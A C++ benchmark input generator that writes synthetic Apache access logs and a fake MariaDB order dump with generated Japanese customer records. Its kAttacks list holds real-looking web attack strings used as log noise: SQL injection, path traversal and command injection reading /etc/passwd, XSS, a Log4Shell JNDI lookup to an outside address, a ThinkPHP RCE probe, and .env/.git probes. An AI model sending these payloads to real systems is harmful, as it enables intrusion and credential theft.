// Writes benchmark input to standard output: the same bytes for the same arguments.
//   bench_input access-log BYTES [ADDRESSES]   Apache combined: Japanese URLs, 13 agents, 1 % attacks, times that move on
//   bench_input dump BYTES                     mariadb-dump: extended inserts of persons and orders (generated persons)
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <string_view>

#include <fmt/format.h>

#include "base/time.h"

namespace {

// xorshift64*: fast and the same everywhere (G. Marsaglia 2003, S. Vigna 2016).
class Random {
 public:
  std::uint64_t next() {
    state_ ^= state_ >> 12, state_ ^= state_ << 25, state_ ^= state_ >> 27;
    return state_ * 2685821657736338717u;
  }
  std::uint64_t below(std::uint64_t n) { return (next() >> 11) % n; }
  template <std::size_t N>
  std::string_view pick(const std::string_view (&list)[N]) {
    return list[below(N)];
  }

 private:
  std::uint64_t state_ = 88172645463325252u;
};

constexpr std::string_view kPaths[] = {
    "/",
    "/products/list?category_id=3&pageno=2",
    "/products/detail/1204",
    "/cart",
    "/mypage/login",
    "/contact",
    "/css/style.min.css",
    "/img/logo.png",
    "/js/app.js?v=20260801",
    "/products/list?name=%E5%92%8C%E6%9C%8D%E3%81%AE%E8%83%8C%E5%B9%85",
    "/search?q=%E4%BC%9A%E7%A4%BE+%E6%98%8E%E7%B4%B0",
    "/news/2026/08/summer-sale",
    "/wp-content/uploads/2026/07/photo_0123.jpg",
    "/search?q=%E3%83%81%E3%83%A7%E3%82%B3%E3%83%AC%E3%83%BC%E3%83%88%20%E8%A9%B0%E3%82%81%E5%90%88%E3%82%8F%E3%81%9B",
    "/robots.txt"};
constexpr std::string_view kAttacks[] = {"/?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20",
                                         "/index.php?page=../../../../etc/passwd",
                                         "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
                                         "/.env",
                                         "/?x=${jndi:ldap://203.0.113.5/a}",
                                         "/wp-login.php",
                                         "/.git/config",
                                         "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array",
                                         "/?cmd=;cat%20/etc/passwd",
                                         "/phpmyadmin/"};
constexpr std::string_view kAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 "
    "Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; SO-52D) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"};
constexpr std::string_view kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

class Output {
 public:
  explicit Output(std::uint64_t limit) : limit_(limit) {}
  bool full() const { return written_ + buffer_.size() >= limit_; }
  std::string& buffer() {
    if (buffer_.size() > (1 << 20)) flush();
    return buffer_;
  }
  void flush() {
    written_ += buffer_.size();
    if (std::fwrite(buffer_.data(), 1, buffer_.size(), stdout) != buffer_.size()) std::exit(1);
    buffer_.clear();
  }

 private:
  std::uint64_t limit_, written_ = 0;
  std::string buffer_;
};

void access_log(Output& out, std::uint64_t addresses) {
  Random random;
  hinomi::Timestamp time = hinomi::Timestamp::from_seconds(1'785'542'400);
  for (std::uint64_t i = 0; !out.full(); ++i) {
    if (i % 7 == 0) time.micros += hinomi::kMicrosPerSecond;
    const hinomi::CivilTime t = hinomi::to_civil(time, hinomi::kJst);
    const bool attack = random.below(100) == 0;
    // Visitors are many and skewed; attackers are few.
    const std::uint64_t visitor =
        attack ? addresses + random.below(400) : random.below(addresses) * random.below(addresses) / addresses;
    const std::uint32_t ip = static_cast<std::uint32_t>(0x0b000000 + visitor * 97);
    const std::string_view path = attack ? random.pick(kAttacks) : random.pick(kPaths);
    const int status = attack ? (random.below(3) != 0 ? 404 : 403) : (random.below(20) == 0 ? 304 : 200);
    fmt::format_to(std::back_inserter(out.buffer()),
                   "{}.{}.{}.{} - - [{:02}/{}/{:04}:{:02}:{:02}:{:02} +0900] \"GET {} HTTP/1.1\" {} {} \"{}\" \"{}\"\n", ip >> 24,
                   ip >> 16 & 255, ip >> 8 & 255, ip & 255, t.day, kMonths[t.month - 1], t.year, t.hour, t.minute, t.second, path,
                   status, 500 + random.below(40'000), random.below(3) == 0 ? "-" : "https://shop.example/products/list",
                   random.pick(kAgents));
  }
}

void dump(Output& out) {
  constexpr std::string_view kFamily[] = {"佐藤", "鈴木", "髙橋", "田中", "渡邉", "伊藤", "山本", "中村", "小林", "加藤"};
  constexpr std::string_view kGiven[] = {"花子", "太一", "美咲", "健", "陽子", "翔", "さくら", "一郎", "恵", "直樹"};
  constexpr std::string_view kTowns[] = {"東京都千代田区丸の内", "大阪府大阪市北区梅田", "北海道札幌市中央区北一条西",
                                         "福岡県福岡市博多区博多駅前"};
  Random random;
  out.buffer() +=
      "-- MariaDB dump 10.19  Distrib 10.11.6-MariaDB\n-- Host: localhost    Database: shop\n/*!40101 SET NAMES utf8mb4 */;\n"
      "CREATE TABLE `orders` (\n  `id` int(11) NOT NULL,\n  `name` varchar(100) NOT NULL,\n  `kana` varchar(100) DEFAULT NULL,\n"
      "  `zip` varchar(10) DEFAULT NULL,\n  `address` varchar(255) NOT NULL,\n  `tel` varchar(20) NOT NULL,\n  `email` "
      "varchar(255) DEFAULT NULL,\n"
      "  `birth` date DEFAULT NULL,\n  `note` text DEFAULT NULL,\n  `total` int(11) NOT NULL,\n  `status` varchar(20) NOT NULL,\n"
      "  `created_at` datetime NOT NULL,\n  PRIMARY KEY (`id`)\n) ENGINE=InnoDB;\n";
  for (std::uint64_t id = 1; !out.full();) {
    out.buffer() += "INSERT INTO `orders` VALUES ";
    for (int row = 0; row < 3000 && !out.full(); ++row, ++id) {
      const std::uint64_t person = random.below(3'000'000);
      std::string& b = out.buffer();
      fmt::format_to(std::back_inserter(b), "{}({},'{} {}','{}','{:03}-{:04}','{}{}-{}-{}','090-{:04}-{:04}',", row == 0 ? "" : ",",
                     id, kFamily[person % 10], kGiven[person / 10 % 10], "サトウ ハナコ", person % 999, person % 9999,
                     kTowns[person % 4], person % 9 + 1, person % 20 + 1, person % 30 + 1, 1000 + person % 9000, person % 10000);
      if (random.below(20) == 0) {
        b += "NULL,";
      } else {
        fmt::format_to(std::back_inserter(b), "'user{}@mail-{}.example',", person, person % 5);
      }
      fmt::format_to(std::back_inserter(b), "'{:04}-{:02}-{:02}','{}',{},'shipped','2026-{:02}-{:02} 12:{:02}:00')",
                     1950 + person % 60, person % 12 + 1, person % 28 + 1,
                     random.below(10) == 0 ? "玄関の前に\\n置いてください。it\\'s ok" : "", 500 + random.below(90'000),
                     person % 12 + 1, person % 28 + 1, person % 60);
    }
    out.buffer() += ";\n";
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) {
    std::fputs("usage: bench_input access-log|dump BYTES [ADDRESSES]\n", stderr);
    return 2;
  }
  Output out(std::strtoull(argv[2], nullptr, 10));
  if (std::string_view(argv[1]) == "access-log") {
    access_log(out, argc > 3 ? std::strtoull(argv[3], nullptr, 10) : 200'000);
  } else if (std::string_view(argv[1]) == "dump") {
    dump(out);
  } else {
    return 2;
  }
  out.flush();
}
